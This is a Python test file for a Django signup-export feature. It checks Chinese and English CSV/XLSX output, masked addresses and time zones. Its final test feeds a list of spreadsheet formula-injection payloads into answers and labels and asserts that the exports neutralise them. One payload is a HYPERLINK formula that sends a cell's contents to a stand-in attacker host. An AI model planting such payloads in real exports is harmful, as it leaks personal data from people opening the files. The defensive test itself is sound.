"""Exports read as a Chinese operations team expects: words, not codes; question titles as headers;
the external id; times in the configured zone, and real date cells in XLSX."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tests.api.helpers import signups_url
from tests.campaigns.helpers import INTEGRATION
from tests.members.factories import mobile
from yunying.campaigns.exports import DATE_FORMAT, DATETIME_FORMAT
from yunying.campaigns.services.admission import MemberIdentity, Source, signup_create
from yunying.members.services import Profile

FORM = [
    {"key": "size", "label": "尺码", "type": "single_choice", "required": True,
     "options": [{"value": "m", "label": "M (165/88A)"}, {"value": "l", "label": "L (170/92A)"}]},
    {"key": "interests", "label": "感兴趣的品类", "type": "multi_choice",
     "options": [{"value": "beauty", "label": "美妆护肤"}, {"value": "digital", "label": "数码家电"}]},
    {"key": "address", "label": "收货地址", "type": "address"},
    {"key": "visit", "label": "到店日期", "type": "date"},
    {"key": "agree", "label": "同意条款", "type": "consent"},
    {"key": "note", "label": "备注", "type": "text"},
    {"key": "note2", "label": "备注", "type": "text"},
]  # fmt: skip
ANSWERS = {
    "size": "m", "interests": ["beauty", "digital"], "address": {"region_code": "440305", "detail": "科技园一路 8 号"},
    "visit": "2026-12-20", "agree": True,
}  # fmt: skip


@pytest.fixture
def signup(published):
    campaign = published(form=FORM, channels=["mini_program"])
    return signup_create(
        campaign_id=campaign.pk,
        identity=MemberIdentity(
            phone=mobile(3), external_id="shop-3", profile=Profile(gender="female", region_code="440300")
        ),
        answers=ANSWERS,
        source=Source(channel="mini_program"),
        actor=INTEGRATION,
    )


def csv_cells(response) -> dict[str, str]:
    text = b"".join(response.streaming_content).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    return dict(zip(header, row, strict=True))


def test_csv_reads_in_chinese_with_labels_question_titles_and_the_external_id(api, signup):
    # when
    cells = csv_cells(api.get(signups_url(signup.campaign_id, action="export")))
    # then
    assert cells["外部编号"] == "shop-3"
    assert (cells["状态"], cells["报名渠道"], cells["性别"]) == ("已确认", "小程序", "女")
    assert (cells["地区"], cells["地区代码"]) == ("深圳市", "440300")
    assert cells["尺码"] == "M (165/88A)"
    assert cells["感兴趣的品类"] == "美妆护肤、数码家电"
    assert cells["收货地址"] == "深圳市 科技****"  # masked detail, region named
    assert (cells["到店日期"], cells["同意条款"]) == ("2026-12-20", "是")
    assert "备注 (note)" in cells and "备注 (note2)" in cells  # two questions with one title stay apart
    local = timezone.localtime(signup.created_at)
    assert cells["报名时间"] == local.strftime("%Y-%m-%d %H:%M:%S")  # Asia/Shanghai, no "T", no offset


def test_csv_reads_in_english_when_the_request_asks(api, signup):
    response = api.get(signups_url(signup.campaign_id, action="export"), HTTP_ACCEPT_LANGUAGE="en")
    cells = csv_cells(response)
    assert (cells["Status"], cells["Channel"], cells["Gender"]) == ("Confirmed", "Mini program", "Female")
    assert cells["External ID"] == "shop-3"
    assert cells["感兴趣的品类"] == "美妆护肤, 数码家电"  # the operator's own titles and options as written
    assert cells["同意条款"] == "Yes"


def test_xlsx_has_real_date_cells_in_the_configured_time_zone(api, signup):
    # when
    response = api.get(signups_url(signup.campaign_id, action="export"), {"format": "xlsx"})
    # then
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    signed_up = row["报名时间"]
    assert signed_up.is_date and signed_up.number_format == DATETIME_FORMAT
    expected = timezone.localtime(signup.created_at).replace(tzinfo=None)
    assert abs(signed_up.value - expected).total_seconds() < 0.001
    visit = row["到店日期"]
    assert visit.is_date and visit.number_format == DATE_FORMAT
    assert visit.value == datetime(2026, 12, 20)  # Excel stores days; openpyxl reads them as datetimes
    assert row["报名编号"].value == signup.pk  # numbers stay numbers
    assert row["状态"].value == "已确认"


def test_an_unanswered_question_is_an_empty_cell(api, published):
    campaign = published(form=FORM)
    answers = {"size": "l"}
    signup = signup_create(
        campaign_id=campaign.pk, identity=MemberIdentity(phone=mobile(4)), answers=answers,
        source=Source(channel="h5"), actor=INTEGRATION,
    )  # fmt: skip
    cells = csv_cells(api.get(signups_url(signup.campaign_id, action="export")))
    assert (cells["尺码"], cells["感兴趣的品类"], cells["到店日期"], cells["外部编号"]) == (
        "L (170/92A)",
        "",
        "",
        "",
    )


PLANTED = [
    '=HYPERLINK("http://evil.example/?"&F2,"verify")',
    '\x01=HYPERLINK("http://evil.example/","x")',  # the attacker review: cleaned after quoting, it ran
    " =3+3",
    "\uff1d1+1",  # full-width equals sign, folded by spreadsheets
    "+86 138",
    "@SUM(A1)",
    "\t=1",
]


def _formula_like(text: str) -> bool:
    first = text.lstrip()[:1]
    return first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("planted", PLANTED)
def test_no_cell_of_an_export_is_a_formula(api, published, planted):
    """Answers (anyone who signs up) and question labels (operators) in both formats."""
    form = [{"key": "note", "label": planted.replace("\x01", ""), "type": "text"}]
    campaign = published(form=form, channels=["mini_program"])
    signup_create(
        campaign_id=campaign.pk,
        identity=MemberIdentity(phone=mobile(4), profile=Profile()),
        answers={"note": planted},
        source=Source(channel="mini_program", utm_source=planted[:40]),
        actor=INTEGRATION,
    )
    xlsx = api.get(signups_url(campaign.pk) + "/export", {"format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.content[:300]
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str) and _formula_like(cell.value):
                pytest.fail(f"{cell.coordinate} starts like a formula: {cell.value!r}")
    text = b"".join(api.get(signups_url(campaign.pk) + "/export", {"format": "csv"}).streaming_content)
    for row in csv.reader(io.StringIO(text.decode("utf-8").lstrip("\ufeff"))):
        for value in row:
            assert not _formula_like(value), value
